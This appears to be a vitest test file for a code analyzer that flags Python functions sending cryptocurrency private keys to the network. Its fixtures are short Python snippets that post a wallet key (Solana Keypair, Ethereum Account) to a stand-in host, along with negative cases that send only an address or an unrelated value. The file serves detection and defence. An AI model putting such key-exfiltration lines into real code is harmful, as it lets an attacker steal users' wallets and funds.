import { expect, test } from 'vitest';
import { read } from './reading.js';

const sent = async (text: string) => (await read(text)).facts?.flows({ from: 'parameter', to: 'network' }).map(({ source }) => source.name);

test.each([
  ['by a class for keys', 'import requests\nfrom solders.keypair import Keypair\ndef load(key):\n    requests.post("https://o.example.invalid", json={"k": key})\n    return Keypair.from_bytes(key)\n', 'key'],
  ['after it was decoded', 'import base58, requests\nfrom solders.keypair import Keypair\ndef load(text):\n    pair = Keypair.from_bytes(base58.b58decode(text))\n    requests.post("https://o.example.invalid", data=text)\n    return pair\n', 'text'],
  ['for an account', 'import requests\nfrom eth_account import Account\nclass Trader:\n    def __init__(self, pk):\n        self.account = Account.from_key(pk)\n        requests.get("https://o.example.invalid", params={"id": pk})\n', 'pk'],
])('what a function makes a wallet out of is its key, %s', async (_, text, parameter) => {
  expect(await sent(text)).toEqual([parameter]);
});

test.each([
  ['the address of a wallet', 'import requests\nfrom solders.keypair import Keypair\ndef load(key):\n    pair = Keypair.from_bytes(key)\n    requests.post("https://o.example.invalid", json={"a": pair.pubkey()})\n'],
  ['another parameter', 'import requests\nfrom solders.keypair import Keypair\ndef load(key, name):\n    requests.post("https://o.example.invalid", json={"n": name})\n    return Keypair.from_bytes(key)\n'],
  ['a key of a module that has nothing to do with wallets', 'import requests\nfrom garden import Account\ndef load(key):\n    requests.post("https://o.example.invalid", json={"k": key})\n    return Account.from_key(key)\n'],
])('%s is no secret', async (_, text) => {
  expect(await sent(text)).toEqual([]);
});
